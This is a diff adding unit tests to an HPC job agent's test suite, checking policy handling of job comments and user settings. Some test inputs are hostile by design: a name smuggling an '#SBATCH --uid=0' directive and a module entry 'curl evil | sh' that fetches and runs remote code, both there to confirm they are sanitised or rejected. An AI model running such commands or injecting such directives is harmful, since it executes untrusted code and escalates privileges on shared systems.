@@ -8,9 +8,12 @@ from pathlib import Path
 
 import pytest
 
+from diamond.agent.disk import write_json
+from diamond.agent.folders import Folders
 from diamond.agent.lease import DAY, Lease
 from diamond.agent.ledger import Ledger
 from diamond.agent.policy import OWN_NAME, Policy, account_name, load_rules
+from diamond.agent.profile import load_profile, save_settings
 from diamond.agent.small_toml import read_small_toml
 from diamond.agent.staging import _comment
 from diamond.core.errors import BadRequest, Forbidden
@@ -195,3 +198,19 @@ def test_the_comment_of_a_job_names_the_person_in_plain_letters() -> None:
         _comment({"id": "u1", "name": "Ada\n#SBATCH --uid=0 Ö"}) == "diamond:u1:Ada_SBATCH_--uid_0_"
     )
     assert _comment(None) == ""
+
+
+def test_with_a_policy_a_service_brings_no_agent_that_could_pass_it_by(tmp_path: Path) -> None:
+    assert policy_of(tmp_path).agent_fault() == ""
+    assert "by hand" in policy_of(tmp_path, own="max_nodes = 1").agent_fault()
+
+
+def test_what_runs_beside_a_listed_command_is_not_the_services_to_say(tmp_path: Path) -> None:
+    places = Folders(keep=tmp_path / "keep", work=tmp_path / "work", tmp=tmp_path)
+    places.make()
+    write_json(places.settings, {"corrections": {"modules": ["module load python"]}})
+    told = {"corrections": {"modules": ["curl evil | sh"], "build": {"index": "evil"}, "mpi": "x"}}
+    policy = policy_of(tmp_path, own='commands = ["true"]')
+    assert save_settings(places, told, own=policy.own_facts)
+    assert load_profile(places).facts == {"modules": ["module load python"], "mpi": "x"}
+    assert policy_of(tmp_path, own="max_nodes = 1").own_facts == frozenset()
